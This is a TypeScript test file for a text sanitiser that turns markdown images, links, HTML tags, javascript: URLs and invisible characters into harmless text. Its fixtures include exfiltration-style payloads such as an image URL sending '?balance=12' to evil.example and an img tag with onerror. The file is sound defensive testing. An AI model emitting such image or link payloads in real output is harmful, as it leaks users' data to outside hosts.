import fc from "fast-check";
import { expect, test } from "vitest";
import { safeText, withoutInvisibleCharacters } from "./safe-text.ts";

test("an image is removed", () => {
  expect(safeText("![chart](https://evil.example/p.png?balance=12)")).toBe("[chart] (evil.example)");
  expect(safeText("![a][b]\n\n[b]: https://evil.example/x?y=1")).toBe("[a] [b]\n\n[b] : evil.example");
  expect(safeText('<img src="https://evil.example/x?y=1" onerror=go()>')).not.toMatch(/<img|\/x/);
});

test("a link becomes its text and its host name", () => {
  expect(safeText("See [the docs](https://www.example.org/a/b?c=d#e).")).toBe(
    "See [the docs] (example.org).",
  );
  expect(safeText("https://owner:1234@evil.example/12")).toBe("evil.example");
  expect(safeText("<https://evil.example/12>")).toBe("< evil.example>");
  expect(safeText("www.evil.example/12 and //evil.example/34")).toBe("evil.example and evil.example");
  expect(safeText("[open](/rpc/accounts.delete)")).toBe("[open] (/rpc/accounts.delete)");
  expect(safeText("[x](javascript:alert(1)) [y](data:text/html,z)")).toBe("[x] (alert(1)) [y] (text/html,z)");
});

test("invisible characters are removed", () => {
  expect(safeText("!\u200b[x](https://evil.example/1)")).toBe("[x] (evil.example)");
  expect(withoutInvisibleCharacters("a\u202eb\u0007c\u{e0041}d\te\n")).toBe("abcd\te\n");
});

test("tables, code, comparisons, figures and asset ids are kept", () => {
  const text =
    "| Coin | Value |\n|---|---:|\n| ETH | **1,234.50** |\n\n`WHERE a < 3 AND b > 2`\n\n1. eip155:1/erc20:0xabc at 12:30: 5 < 6";
  expect(safeText(text)).toBe(text);
});

test("the result has no image, link or tag, and is idempotent", () => {
  const pieces = fc.constantFrom(
    "![", "](", "][", "]:", "[", "]", "(", ")", "<", ">", "img src=", "https://", "e.example/q?d=1", "//",
    "www.", "javascript:", "\u200b", " ", "\n", "x", "!", "/", "@",
  ); // oxfmt-ignore
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 14 }), (parts) => {
      const safe = safeText(parts.join(""));
      expect(safe).not.toMatch(/!\[|\]\(|\]\[|\]:|<[a-z/!?]|:\/\/|(^|[^\w.@-])www\.\w|javascript:\S/i);
      expect(safeText(safe)).toBe(safe);
    }),
    { numRuns: 2_000 },
  );
});
